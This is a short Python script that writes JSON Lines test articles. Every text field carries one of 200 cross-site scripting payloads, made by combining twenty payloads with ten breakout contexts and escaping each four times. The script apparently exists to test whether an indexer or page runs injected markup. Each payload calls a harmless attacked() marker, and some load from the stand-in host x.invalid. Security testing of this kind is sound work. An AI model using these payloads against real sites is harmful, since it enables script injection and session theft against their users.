#!/usr/bin/env python3
"""Writes 200 articles whose every field tries to run a script in the page, as JSON Lines: payloads x contexts.

usage: make_attacks.py > attacks.jsonl

What runs calls `attacked()`.
"""

import html
import json

PAYLOADS = [
    "<script>attacked()</script>", "<ScRiPt src=//x.invalid/x.js></sCrIpT>", "<img src=x onerror=attacked()>",
    "<svg onload=attacked()>", "<svg><script>attacked()</script></svg>", "<iframe srcdoc='<script>parent.attacked()</script>'>",
    "<body onload=attacked()>", "<details open ontoggle=attacked()>", "<input autofocus onfocus=attacked()>",
    "<a href=javascript:attacked()>x</a>", "<math><mtext><style><img src=x onerror=attacked()>", "<base href=//x.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:attacked()'>", "<style>@import '//x.invalid'</style>",
    "<form action=javascript:attacked()><button>", "<template><script>attacked()</script>", "<object data=javascript:attacked()>",
    "<mark onmouseover=attacked()>x</mark>", "{{attacked()}}", "${attacked()}",
]
CONTEXTS = [
    "{}", "\"{}", "'{}", "\">{}", "' autofocus onfocus=attacked() x='{}", "</title>{}", "</script>{}", "-->{}",
    "]]>{}", "</mark>{}<mark>",
]
# The indexer takes markup in a text for markup, and undoes as many escapes: so deep, a text arrives as it was meant.
ESCAPES = 4


def escaped(text):
    for _ in range(ESCAPES):
        text = html.escape(text)
    return text


def attacks():
    return [context.replace("{}", payload) for payload in PAYLOADS for context in CONTEXTS]


def main():
    for i, attack in enumerate(attacks()):
        text = escaped(attack)
        print(json.dumps({
            "id": f"{i}/{attack}", "title": text, "standfirst": text, "body": f"zyxattack\n\n{text}",
            "tags": [text, f"attack-{i % 7}"], "section": text, "authors": [text], "source": text,
            "url": f"javascript:attacked({i})", "image": f"javascript:attacked({i})", "published": f"1987-03-{i % 28 + 1:02}",
        }))


if __name__ == "__main__":
    main()
